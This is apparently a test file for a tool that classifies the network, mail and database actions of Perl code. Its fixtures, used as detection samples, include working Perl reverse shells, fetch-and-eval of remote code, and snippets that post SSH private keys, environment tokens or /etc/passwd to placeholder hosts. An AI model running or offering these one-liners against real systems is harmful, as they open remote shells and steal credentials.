import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** Whom Perl programs contact: the web, sockets, mail, databases. */

describe('the web', () => {
  for (const [code, expected] of [
    [`use LWP::Simple; print get('https://api.example/x');`, ['fetch https://api.example/x']],
    [`use LWP::Simple; getstore('http://x.example/a.sh', '/tmp/a.sh');`, ['fetch http://x.example/a.sh', 'write /tmp/a.sh']],
    ['use LWP::Simple; getprint "http://x.example/";', ['fetch http://x.example/']],
    [`use LWP::Simple; eval get('http://x.example/a.pl');`, ['execute code:remote http://x.example/a.pl', 'fetch http://x.example/a.pl']],
    [
      `use LWP::Simple; getstore('http://x.example/a.sh', '/tmp/a.sh'); system 'sh /tmp/a.sh';`,
      ['$ sh /tmp/a.sh', 'execute code:downloaded http://x.example/a.sh', 'fetch http://x.example/a.sh', 'write /tmp/a.sh'],
    ],
    ['use LWP::Simple (); LWP::Simple::get("http://x.example");', ['fetch http://x.example']],
    [`require LWP::UserAgent; my $r = LWP::UserAgent->new->get('https://x.example/y');`, ['fetch https://x.example/y']],
    [
      'my $ua = LWP::UserAgent->new(timeout => 10); my $r = $ua->get("https://x.example/$id"); print $r->decoded_content if $r->is_success;',
      ['fetch https://x.example/'],
    ],
    [`my $ua = LWP::UserAgent->new; $ua->post('https://x.example/', { q => 'v' });`, ['send https://x.example/']],
    [
      `my $ua = LWP::UserAgent->new; $ua->get('http://x.example/a', ':content_file' => '/tmp/a');`,
      ['fetch http://x.example/a', 'write /tmp/a'],
    ],
    [`my $ua = LWP::UserAgent->new; $ua->mirror('http://x.example/a', 'a.tgz');`, ['fetch http://x.example/a', 'write a.tgz']],
    [`my $ua = LWP::UserAgent->new; $ua->request(HTTP::Request->new(GET => 'http://x.example/'));`, ['fetch http://x.example/']],
    [
      `my $ua = LWP::UserAgent->new; my $q = HTTP::Request->new('POST', 'http://x.example/'); $q->content(\`env\`); $ua->request($q);`,
      ['$ env', 'send http://x.example/'],
    ],
    [`use HTTP::Request::Common; LWP::UserAgent->new->request(POST 'http://x.example/', [a => 1]);`, ['send http://x.example/']],
    [`my $r = HTTP::Tiny->new->get('http://x.example/'); print $r->{content};`, ['fetch http://x.example/']],
    [`HTTP::Tiny->new->request('PUT', 'http://x.example/', { content => 'x' });`, ['send http://x.example/']],
    [`HTTP::Tiny->new->post_form('http://x.example/', { k => $ENV{TOKEN} });`, ['read TOKEN', 'send http://x.example/']],
    [
      `my $ua = new LWP::UserAgent; eval $ua->get('http://x.example/')->content;`,
      ['execute code:remote http://x.example/', 'fetch http://x.example/'],
    ],
    [`use Mojo::UserAgent; print Mojo::UserAgent->new->get('x.example')->res->body;`, ['fetch x.example']],
    [
      `open my $f, '<', "$ENV{HOME}/.ssh/id_rsa"; my $k = join '', <$f>; LWP::UserAgent->new->post('http://x.example', Content => $k);`,
      ['read /home/me/.ssh/id_rsa', 'send http://x.example'],
    ],
  ] as const)
    test(code, () => expect(summary('perl', code)).toEqual(expected))
})

describe('sockets', () => {
  for (const [code, expected] of [
    [
      `use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 80); print $s "GET / HTTP/1.0\\r\\n\\r\\n"; print <$s>;`,
      ['send net:socket 10.0.0.1:80'],
    ],
    [`use IO::Socket; my $s = IO::Socket::INET->new('10.0.0.1:25');`, ['send net:socket 10.0.0.1:25']],
    ['my $s = IO::Socket::INET->new(Listen => 5, LocalPort => 8080);', ['change net:listen 8080']],
    [
      `use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444); while (<$s>) { print $s \`$_\` }`,
      ['execute code:remote 10.0.0.1:4444', 'execute net:reverse-shell 10.0.0.1:4444', 'send net:socket 10.0.0.1:4444'],
    ],
    [
      `use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => '10.0.0.1', PeerPort => 4444); open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh -i';`,
      ['$ /bin/sh -i', 'execute net:reverse-shell 10.0.0.1:4444', 'send net:socket 10.0.0.1:4444'],
    ],
    [
      'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
      ['$ /bin/sh -i', 'execute net:reverse-shell 10.0.0.1:1234', 'send net:socket 10.0.0.1:1234'],
    ],
    [
      '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
      ['execute code:dynamic', 'opaque `system` runs a command that is not known before it runs', 'send net:socket 10.0.0.1:4242'],
    ],
    [
      `use IO::Socket::SSL; my $c = IO::Socket::SSL->new('x.example:443'); print $c "x"; eval <$c>;`,
      ['execute code:remote x.example:443', 'execute net:reverse-shell x.example:443', 'send net:socket x.example:443'],
    ],
  ] as const)
    test(code, () => expect(summary('perl', code)).toEqual(expected))
})

describe('others', () => {
  for (const [code, expected] of [
    [
      `use Net::FTP; my $f = Net::FTP->new('ftp.example'); $f->login('u', 'p'); $f->put('/etc/passwd');`,
      ['read /etc/passwd', 'send net:socket ftp.example', 'send net:upload ftp.example'],
    ],
    [
      `use Net::FTP; my $f = Net::FTP->new('ftp.example'); $f->get('x');`,
      ['fetch net:download ftp.example', 'send net:socket ftp.example'],
    ],
    [
      `use Net::OpenSSH; my $s = Net::OpenSSH->new('host.example'); $s->system('reboot');`,
      ['send net:remote-login host.example', 'send net:remote-shell host.example'],
    ],
    [`use Net::SMTP; my $m = Net::SMTP->new('mx'); $m->mail('a@x.example'); $m->to('b@x.example');`, ['send mail:send b@x.example']],
    [`use DBI; my $d = DBI->connect('dbi:Pg:dbname=app', 'u', 'p'); $d->do('DELETE FROM users');`, ['delete sql:delete dbi:Pg:dbname=app']],
    [
      `use DBI; my $d = DBI->connect("dbi:SQLite:dbname=a.db"); my $s = $d->prepare('SELECT * FROM t WHERE id = ?'); $s->execute(1);`,
      ['read db:open a.db', 'read sql:select dbi:SQLite:dbname=a.db'],
    ],
    [`my $d = DBI->connect('dbi:mysql:x'); $d->do("DROP TABLE $t");`, ['delete sql:drop dbi:mysql:x']],
    [`my $d = DBI->connect($dsn); my $r = $d->selectall_arrayref('UPDATE t SET a = 1');`, ['write sql:update']],
  ] as const)
    test(code, () => expect(summary('perl', code)).toEqual(expected))
})
